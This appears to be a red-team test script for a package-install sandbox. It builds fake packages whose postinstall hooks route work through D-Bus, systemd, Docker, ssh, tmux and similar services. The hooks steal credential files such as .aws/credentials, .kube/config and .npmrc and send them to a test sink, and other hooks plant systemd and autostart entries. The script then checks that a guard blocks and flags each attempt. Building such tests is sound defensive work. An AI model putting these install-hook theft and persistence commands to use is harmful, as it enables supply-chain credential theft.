#!/bin/bash
# R24: the work is handed to somebody outside the tree: D-Bus, systemd, a container engine, tmux,
# ssh; units and autostart.
#
# vm: no (needs a /run of its own)
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

sockets=/tmp/tmux-65534 # where a tmux server of the lab's user listens
rt_network() {
	mount -t tmpfs -o mode=755 tmpfs /run || exit 2
	mkdir -p "$sockets" "$LAB/tmux" && mount --bind "$LAB/tmux" "$sockets" || exit 2
	chown "$LAB_UID:$LAB_GID" "$sockets" && chmod 700 "$sockets"
}
rt_begin R24 'deputies'
run=/run/user/$LAB_UID
mkdir -p "$run/systemd" "$LAB/deputy" && chown -R "$LAB_UID:$LAB_GID" "$run" "$LAB/deputy" &&
	chmod 711 /run/user
cp tests/redteam/packages/deputy/serve.js "$BEHAVE/net" "$LAB/deputy/"
tmux=$(command -v tmux || :)

# Each deputy steals another file, so that the sink shows which of them worked.
names=(bus systemd docker ssh agent abstract)
where=("$run/bus" "$run/systemd/private" /run/docker.sock 22 "$LAB/deputy/agent" @lab-deputy)
steals=(.aws/credentials .vault-token .kube/config .netrc .docker/config.json .npmrc)
deputies=
rt_setup() {
	[ -z "$deputies" ] || { kill "$deputies"; wait "$deputies"; rm -f "$run/bus" \
		"$run/systemd/private" /run/docker.sock "$LAB/deputy/agent"; } 2>/dev/null
	chmod 1777 /run # until the engine's socket is made
	(cd / && exec setpriv --reuid="$LAB_UID" --regid="$LAB_GID" \
		--clear-groups --inh-caps=+net_bind_service --ambient-caps=+net_bind_service \
		node "$LAB/deputy/serve.js" "$RT_HOME" "${where[@]}") &
	deputies=$!
	LAB_PIDS+=("$deputies")
	lab_wait_file /run/docker.sock "$deputies"
	chmod 755 /run
	if [ -n "$tmux" ]; then
		lab_as_user / tmux kill-server 2>/dev/null
		lab_as_user / env -u WS_LAB_MARK tmux -f /dev/null new-session -d -s job 'sleep 600'
	fi
}

for i in "${!names[@]}"; do
	rt_package "deputy-${names[i]}-x" 1.0.0 deputy postinstall \
		"node delegate.js ${where[i]} ${steals[i]}" net
done
if [ -n "$tmux" ]; then
	rt_package deputy-tmux-x 1.0.0 - postinstall \
		"tmux new-window -d 'sleep 3; $LAB/deputy/net tcp $RT_SINK $RT_HOME/.pypirc'; true"
fi
rt_package deputy-unit-x 1.0.0 - postinstall \
	'd=~/.config/systemd/user; mkdir -p $d; ./bin/plant create $d/colour.service; true' plant
rt_package deputy-autostart-x 1.0.0 - postinstall \
	'd=~/.config/autostart; mkdir -p $d; ./bin/plant create $d/colour.desktop; true' plant

rt_control
sleep 5
rt_leaked "${steals[@]}" ${tmux:+.pypirc}
rt_ok 'the unit is written' [ -s "$RT_HOME/.config/systemd/user/colour.service" ]
rt_ok 'the autostart entry is written' [ -s "$RT_HOME/.config/autostart/colour.desktop" ]

if rt_guarded; then
	sleep 5
	for name in "${names[@]}" ${tmux:+tmux}; do
		rt_accused "deputy-$name-x" '^(escape)$'
	done
	units=$(find "$RT_HOME"/.config/{systemd,autostart} -type f -size +0 2>/dev/null)
	rt_is 'units' "$units" ''
	rt_withheld deputy-unit-x home-hidden 'persist|unit|systemd'
	rt_stopped deputy-autostart-x 'persist|autostart'
fi
[ -z "$tmux" ] || lab_as_user / tmux kill-server 2>/dev/null
umount -l "$sockets" && rmdir "$sockets"
rt_end
